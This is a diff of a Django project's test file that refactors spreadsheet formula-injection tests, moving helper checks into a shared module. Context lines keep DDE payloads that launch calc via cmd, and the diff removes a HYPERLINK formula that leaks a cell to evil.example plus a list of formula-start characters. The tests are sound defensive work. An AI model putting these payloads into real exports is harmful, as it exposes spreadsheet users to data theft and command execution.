@@ -4,19 +4,16 @@ that a spreadsheet shows, never as a formula it runs; numbers stay numbers."""
 
 from __future__ import annotations
 
-import csv
 import datetime
-import io
 import json
 from decimal import Decimal
 from pathlib import Path
-from typing import Any
 
-import openpyxl
 import pytest
 from django.test import Client
 from django.utils import timezone
 from tests.core.test_docs_frameworks import EXAMPLE
+from tests.formulas import HYPERLINK, assert_no_formula_in_csv, assert_no_formula_in_workbook
 from tests.web.conftest import Cast, make_user
 
 from chiso.cli import main as chiso_main
@@ -25,7 +22,6 @@ from chiso.web.cycles.models import Cycle, CycleState, Participation, Unit
 from chiso.web.cycles.services import change_state, import_framework
 from chiso.web.submissions.scoring import score_cycle
 
-HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Bấm vào đây")'
 # unit name -> its info answer (E.2): each character a spreadsheet starts a formula with
 TYPED = {
     HYPERLINK: HYPERLINK,
@@ -33,7 +29,6 @@ TYPED = {
     "-Sở Trừ": "-2+3+cmd|' /C calc'!A0",
     "@Sở A còng": "@SUM(1+1)*cmd|' /C calc'!A0",
 }
-DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
 
 
 @pytest.fixture
@@ -61,31 +56,6 @@ def typed(cast: Cast) -> Cycle:
         head = cast.client(make_user(f"head{number}", Role.HEAD, unit))
         head.post(f"/submissions/{part.pk}/submit/", {"confirm": "on"})
     return cycle
-
-
-def _is_number(text: str) -> bool:
-    try:
-        float(text.replace(",", "."))
-    except ValueError:
-        return False
-    return True
-
-
-def assert_no_formula_in_csv(text: str) -> list[list[str]]:
-    rows = list(csv.reader(io.StringIO(text)))
-    for row in rows:
-        for field in row:
-            assert not field.startswith(DANGEROUS) or _is_number(field), field
-    return rows
-
-
-def assert_no_formula_in_workbook(content: bytes) -> Any:
-    workbook = openpyxl.load_workbook(io.BytesIO(content))
-    for sheet in workbook.worksheets:
-        for row in sheet.iter_rows():
-            for cell in row:
-                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
-    return workbook
 
 
 def test_answers_export_csv_quotes_typed_text_that_a_spreadsheet_would_run(
